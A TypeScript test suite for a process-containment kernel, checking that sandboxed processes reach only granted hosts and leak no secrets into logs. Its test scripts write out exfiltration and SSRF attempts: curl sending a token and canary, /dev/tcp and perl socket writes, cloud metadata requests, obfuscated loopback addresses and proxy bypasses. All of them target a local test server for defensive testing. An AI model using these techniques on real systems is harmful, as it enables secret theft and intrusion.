// Attacks 15 and 16 on a running kernel: what a contained process may reach, and what of it is recorded.

import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { once } from 'node:events'
import { existsSync, readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { IncomingMessage, Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { entered } from '../../../node/egress/doorway.ts'
import { isAlive, Lab, resultOf, until } from '../kernel/lab.ts'

const CANARY = 'canary-7b1f9e'

describe('a contained process and the network', function () {
  this.timeout(120_000)
  let lab: Lab
  let server: Server
  let port = 0
  const seen: string[] = []

  before(async function () {
    const missing = ['bwrap', 'curl', 'perl'].filter(
      (name) => spawnSync('which', [name]).status !== 0
    )
    if (missing.length > 0 || !existsSync('/usr/bin/perl')) {
      console.log(`      skipped: needs ${missing.join(', ')}`)
      this.skip()
    }
    server = createServer((request: IncomingMessage, response) => {
      let body = ''
      request.on('data', (chunk: Buffer) => (body += chunk.toString('latin1')))
      request.on('end', () => {
        seen.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`)
        if (request.url === '/redirect') {
          response.writeHead(302, { location: `http://localhost:${port}/redirected` })
        }
        response.end('hello')
      })
    })
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
    port = (server.address() as AddressInfo).port
    lab = await Lab.open()
    await lab.start('laptop')
  })
  beforeEach(() => {
    seen.length = 0
  })
  after(async () => {
    await lab?.close()
    server?.close()
  })

  async function run(grants: readonly string[], script: string): Promise<string> {
    const flags = grants.flatMap((grant) => ['--grant', grant])
    const line = `export CANARY=${CANARY}\n${script}`
    const result = await lab.weaver('laptop', 'run', ...flags, '--', 'bash', '-c', line)
    return result.stdout + result.stderr
  }

  it('reaches what a grant names, with ordinary programs, and all of it is recorded', async () => {
    const url = `http://127.0.0.1:${port}`
    const output = await run(
      [`net:127.0.0.1:${port}`],
      `curl -sS ${url}/a && curl -sS -p ${url}/b && curl -sS -x socks5h://127.0.0.1:3128 ${url}/c`
    )
    assert.equal(output, 'hellohellohello')
    assert.equal(seen.length, 3)
    // Written when the process has ended: the task's own end may be a moment earlier.
    await until(async () => {
      const log = await lab.weaver('laptop', 'chain', 'log', '--kind', 'net.moved', '--json')
      return /"connections":3/.test(log.stdout)
    })
  })

  it('hands over its loopback before its command starts, and never again', async () => {
    const [perl, ...rest] = entered('/run/weaver/egress.sock', ['echo', 'taken'])
    const again = rest.map(
      (word) => `'${word === '3128' ? '3129' : word.replaceAll("'", "'\\''")}'`
    )
    const output = await run(
      [`net:127.0.0.1:${port}`],
      `timeout 2 ${perl} ${again.join(' ')}
       curl -sS http://127.0.0.1:${port}/after`
    )
    assert.doesNotMatch(output, /taken/)
    assert.match(output, /hello$/)
  })

  it('sends no secret in clear, also to a granted host (attack 15)', async () => {
    const set = lab.spawn('laptop', ['secrets', 'set', 'TOKEN'])
    set.stdin?.end('tok-5f0c2b9d1e')
    assert.equal((await resultOf(set)).code, 0)
    const url = `http://127.0.0.1:${port}`
    const output = await run(
      [`net:127.0.0.1:${port}`, 'secret:TOKEN'],
      `curl -sS -d "t=$TOKEN" ${url}/body; curl -sS -H "A: Bearer $TOKEN" ${url}/header
       curl -sS -p "${url}/tunnel?$TOKEN"; curl -sS "${url}/$(echo -n "$TOKEN" | base64)"
       echo clean | curl -sS -d @- ${url}/clean`
    )
    assert.match(output, /a secret in clear/)
    assert.deepEqual(
      seen.filter((line) => line.startsWith('POST /clean')),
      seen
    )
    assert.equal(seen.length, 1)
    const log = await lab.weaver('laptop', 'chain', 'log', '--kind', 'net.refused', '--json')
    assert.match(log.stdout, /it would send a secret in clear/)
    assert.doesNotMatch(log.stdout, /tok-5f0c2b9d1e/)
  })

  it('reaches nothing without a grant, by whatever way and name (attack 15)', async () => {
    const output = await run(
      [],
      `for host in 127.0.0.1 localhost 0x7f.1 2130706433 "[::ffff:127.0.0.1]" "[::1]"; do
         curl -sS -m 3 "http://$host:${port}/?$CANARY"; done
       echo $CANARY > /dev/tcp/127.0.0.1/${port}
       perl -MIO::Socket::INET -e 'print {IO::Socket::INET->new("127.0.0.1:${port}") or die} $ENV{CANARY}'
       ls /run/weaver; true`
    )
    assert.doesNotMatch(output, /hello/)
    assert.deepEqual(seen, [])
  })

  it('reaches no other port, no inside address by a name, and follows no redirect there (attack 16)', async () => {
    const output = await run(
      [`net:127.0.0.1:${port}`, `net:localhost:${port}`, 'net:*:80', 'net:*.example:*'],
      `curl -sS -m 5 -L http://127.0.0.1:${port}/redirect
       curl -sS -m 5 http://localhost:${port}/named
       curl -sS -m 5 http://169.254.169.254/latest/meta-data/
       curl -sS -m 5 http://2130706433/x; curl -sS -m 5 http://0x7f.1/x; curl -sS -m 5 'http://[::ffff:7f00:1]/x'
       curl -sS -m 5 --noproxy '*' http://127.0.0.1:${port}/around
       curl -sS -m 5 -x http://127.0.0.1:3128 -H 'Host: localhost' http://127.0.0.1:${port}/header`
    )
    assert.match(output, /not on the public network/)
    const asked = seen.map((line) => line.split(' ')[1])
    assert.deepEqual(asked, ['/redirect', '/header'])
    assert.ok(seen.every((line) => line.includes(`"host":"127.0.0.1:${port}"`)))
    const log = await lab.weaver('laptop', 'chain', 'log', '--kind', 'net.refused', '--json')
    assert.match(log.stdout, /169\.254\.169\.254/)
  })

  it('leaves no word of what was sent in the record or the log (attack 15)', async () => {
    await run(
      [`net:127.0.0.1:${port}`],
      `curl -sS -d "$CANARY-sent" http://127.0.0.1:${port}/in?$CANARY-path`
    )
    assert.ok(
      seen.some((line) => line.includes(`${CANARY}-sent`)),
      'it did reach the granted host'
    )
    const log = await lab.weaver('laptop', 'chain', 'log', '--kind', 'net.connected', '--json')
    const lines = await lab.weaver('laptop', 'kernel', 'logs')
    for (const text of [log.stdout, lines.stdout]) assert.doesNotMatch(text, /canary-7b1f9e/)
  })

  it('ends an open connection when a policy takes its grant back', async () => {
    server.removeAllListeners('request')
    const open = Promise.withResolvers<void>()
    server.on('request', (request: IncomingMessage, response) => {
      request.resume()
      response.write('for ever ')
      open.resolve()
    })
    const grants = ['--grant', `net:127.0.0.1:${port}`]
    const line = `curl -sS http://127.0.0.1:${port}/a; echo cut; curl -sS http://127.0.0.1:${port}/b`
    const running = resultOf(lab.spawn('laptop', ['run', ...grants, '--', 'bash', '-c', line]))
    await open.promise
    const host = `Weft::Host::"127.0.0.1:${port}"`
    const policy = `@id("off") forbid(principal, action == Weft::Action::"net.connect", resource == ${host});`
    const added = await lab.weaver('laptop', 'policy', 'add', policy)
    assert.equal(added.code, 0, added.stderr)
    const { stdout } = await running
    assert.match(stdout, /^for ever cut\nweaver: no grant of this process lets it out/)
    const log = await lab.weaver('laptop', 'chain', 'log', '--kind', 'grant.revoked', '--json')
    assert.match(log.stdout, new RegExp(`"grant":"net:127.0.0.1:${port}"`))
  })

  it('leaves no carrier behind when the kernel is killed', async () => {
    const grants = ['--grant', 'net:localhost:1']
    const begun = await lab.weaver('laptop', 'run', '-d', ...grants, '--', 'sleep', '4819')
    assert.equal(begun.code, 0, begun.stderr)
    let carriers: readonly number[] = []
    await until(async () => {
      carriers = carriersOf(await lab.pidOf('laptop'))
      return carriers.length > 0
    })
    await lab.kill('laptop')
    await until(() => carriers.every((pid) => !isAlive(pid)))
  })
})

function carriersOf(kernel: number): readonly number[] {
  const children = readFileSync(`/proc/${kernel}/task/${kernel}/children`, 'utf8').trim().split(' ')
  return children.map(Number).filter((pid) => {
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8').startsWith('weaver-egress')
  })
}
